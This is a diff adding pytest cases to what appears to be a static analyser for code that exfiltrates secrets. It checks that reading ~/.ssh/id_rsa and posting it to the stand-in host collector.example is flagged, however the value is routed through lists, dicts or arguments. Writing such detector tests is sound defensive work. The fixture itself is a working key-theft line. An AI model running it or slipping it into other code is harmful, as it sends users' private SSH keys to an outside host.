@@ -272,3 +272,42 @@ def test_a_function_is_read_again_for_a_list_that_takes_the_place_of_one_that_is
         for number in range(5)
     )
     assert len({fact.subject for fact in check(text).facts}) == 5
+
+
+@pytest.mark.parametrize(
+    "way",
+    [
+        "send(d['a']['b'])",
+        "for name, value in d.items():\n    send(value['b'])",
+        "for value in d.values():\n    send(value['b'])",
+        "for name in d:\n    send(d[name]['b'])",
+        "a, b = 'x', d\nsend(b['a'])",
+        "send({**d, 'n': 1}['a'])",
+        "items = ['x']\nitems.append(d['a'])\nsend(items[1]['b'])",
+        "items = ['x', d['a']['b']]\nitems.reverse()\nsend(items[0])",
+        "items = ['x', d['a']['b']]\ndel items[0]\nsend(items[0])",
+        "items = ['x', d['a']['b']]\nrandom.shuffle(items)\nsend(items[0])",
+        "items = ['x'] + [d['a']['b']]\nsend(items[1])",
+        "items = ['x']\nitems += [d['a']['b']] * 2\nsend(items[2])",
+        "e = {'n': 'x'}\ne[input()] = d['a']\nsend(e['n'])",
+        "e = {'n': 'x'}\ne.update(n=d['a'])\nsend(e['n'])",
+        "def give(*args, **words):\n    send(words['key'])\ngive('x', key=d['a']['b'])",
+        "def give(*args):\n    send(args[1])\ngive(*['x', d['a']['b']])",
+        "send([value['b'] for value in d.values()][0])",
+    ],
+)
+def test_what_is_kept_in_a_list_or_a_mapping_is_followed(way: str) -> None:
+    text = (
+        "import os, random, requests\ndef send(x):\n    requests.post('https://collector.example/in', data=x)\n"
+        "d = {'a': {'b': open(os.path.expanduser('~/.ssh/id_rsa')).read()}}\n"
+    )
+    assert found(text + way) == {"secret-sent": "critical"}
+    assert "secret-sent" not in found(text.replace(".ssh/id_rsa", "notes.md") + way)
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["x.append(x)", "x = [x, x]", "x = x + x", "x.extend(x)", "x = {'a': x, 'b': x}", "x = [*x, *x]", "x = x * 99999"],
+)
+def test_what_holds_itself_comes_to_an_end(text: str) -> None:
+    assert found("import os, json\nx = [1]\n" + f"{text}\n" * 400 + "print(json.dumps(x), str(x), x == x)\n") == {}
